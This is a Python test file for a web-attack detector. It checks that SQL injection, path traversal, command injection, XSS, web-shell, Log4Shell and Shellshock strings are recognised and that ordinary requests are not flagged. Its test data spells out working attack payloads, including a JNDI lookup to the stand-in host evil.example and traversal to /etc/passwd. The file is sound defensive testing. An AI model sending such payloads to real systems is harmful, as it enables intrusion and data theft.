"""Attacks are recognised through their disguises; ordinary requests and awkward texts are not attacks."""

from __future__ import annotations

import time
from typing import Any

import pytest

from flow_rows import flow, frame
from infraspectre.soma.web_attack import WebAttack, attack_in
from soma_runs import found_in

ATTACKS = {
    "/item?id=1%27%20UNION%20SELECT%20name,pass%20FROM%20users--": "sql_injection",
    "/item?id=1%2527+or+%25271%2527%253D%25271": "sql_injection",
    "/item?id=1/**/union/**/all/**/select/**/1": "sql_injection",
    "/item?id=1;waitfor delay '0:0:5'--": "sql_injection",
    "/static/..%2f..%2f..%2fetc/passwd": "path_traversal",
    "/cgi-bin/%252e%252e/%252e%252e/windows/system32/cmd.exe": "path_traversal",
    "/img/pic.php?cmd=whoami": "web_shell",
    "/blog/c99.php": "web_shell",
    "/ping?host=127.0.0.1;cat%20/tmp/x": "command_injection",
    "/cgi?x=$(id)": "command_injection",
    "/search?q=%3Cscript%3Ealert(1)%3C/script%3E": "xss_injection",
    "/search?q=%22%3E%3Cimg%20src=x%20onerror=alert(1)%3E": "xss_injection",
    "/?x=${jndi:ldap://evil.example/a}": "log4shell",
    "() { :;}; /bin/bash -c 'id'": "shellshock",
}
ORDINARY = [
    "/",
    "/search?q=rock%20and%20roll&union=yes",
    "/search?q=select+a+plan+from+our+list",
    "/a.js?v=1.2.3;jsessionid=ABCDEF",
    "/it's/fine?name=O%27Brien",
    "/../images/logo.png",
    "/shop?command=list&c=cat&shell=bash5",
    "/script/app.js?cb=jQuery1234_5678&_=1",
    "/w/index.php?title=C%2B%2B&action=edit&section=1",
    "/track?u=https%3A%2F%2Fwww.example.org%2F%3Fa%3Db%26c%3Dd%7Ce",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0 Safari/537.36",
    "Mozilla/4.0 (compatible; MSIE 8.0; Windows NT 6.1; Trident/4.0; .NET CLR 2.0.50727)",
    "\\x00\\xff%zz%",
]


@pytest.mark.parametrize(("text", "category"), ATTACKS.items())
def test_an_attack_is_recognised(text: str, category: str) -> None:
    assert attack_in(text) == category
    found = found_in(WebAttack, frame([flow(http_uris=["/", text], http_user_agents=["curl/8", "curl/8"])]))
    assert [each.category for each in found] == [category]
    assert text in found[0].evidence.examples


@pytest.mark.parametrize("text", ORDINARY)
def test_an_ordinary_text_is_none(text: str) -> None:
    assert attack_in(text) is None


def test_scanners_that_say_their_name_are_found() -> None:
    found = found_in(WebAttack, frame([flow(http_uris=["/"], http_user_agents=["Mozilla/5.00 (Nikto/2.1.6)"])]))
    assert [(each.category, each.techniques[0].id) for each in found] == [("vulnerability_scan", "T1595.002")]


def test_repetition_raises_the_score_and_is_reported_once() -> None:
    uri = "/?id=1%27%20or%20%271%27=%271"
    one, many = (
        found_in(WebAttack, frame(flow(n, http_uris=[uri], http_user_agents=[""]) for n in range(count)))
        for count in (1, 60)
    )
    assert len(one) == len(many) == 1
    assert many[0].score > one[0].score


@pytest.mark.parametrize(
    "text", ["'" * 100_000, "../" * 50_000, "${" * 50_000, "<img " * 30_000, "' or " * 30_000, "select " * 30_000]
)
def test_hostile_texts_take_little_time(text: str) -> None:
    started = time.process_time()
    attack_in(text)
    assert time.process_time() - started < 0.5


def test_flows_are_counted_once_however_much_they_ask() -> None:
    uris = ["/?q=../../../../etc/passwd", "/?q=../../../../../etc/passwd"]
    (found,) = found_in(WebAttack, frame([flow(http_uris=uris, http_user_agents=["", ""])]))
    assert (found.evidence.measures["flows"], found.flow_ids) == (1, [1])
    assert found.evidence.measures["request_fields"] == 2


def posts(path: str, count: int = 8) -> list[dict[str, Any]]:
    return [
        flow(n * 20, orig_ip="198.51.100.7", http_methods=["POST"], http_uris=[path], http_statuses=[200])
        for n in range(count)
    ]


def test_orders_to_a_script_among_data_are_a_web_shell() -> None:
    found = found_in(WebAttack, frame(posts("/uploads/2026/party.php")))
    assert [(each.category, each.techniques[0].id) for each in found] == [("web_shell", "T1505.003")]


@pytest.mark.parametrize("path", ["/files/upload.php", "/shop/order.php", "/uploads/party.png"])
def test_other_posts_are_quiet(path: str) -> None:
    assert found_in(WebAttack, frame(posts(path))) == []


def asked(number: int, status: int, resp_ip: str = "10.0.0.9") -> dict[str, Any]:
    path = f"/{number * 7919 % 10_007}.bak"
    return flow(number, resp_ip=resp_ip, http_methods=["GET"], http_uris=[path], http_statuses=[status])


def test_a_list_of_paths_that_are_not_there_is_a_scan() -> None:
    found = found_in(WebAttack, frame(asked(n, 404 if n % 9 else 200) for n in range(120)))
    assert [(each.category, each.severity) for each in found] == [("path_scan", "medium")]
    assert found[0].techniques[0].id == "T1595.003"


def test_some_missing_pages_among_many_and_crawlers_outward_are_no_incident() -> None:
    reading = [asked(n, 200 if n % 5 else 404) for n in range(300)]
    crawler = [asked(n, 404, "192.0.2.80") for n in range(300)]
    assert {each.severity for each in found_in(WebAttack, frame(reading + crawler))} == {"low"}
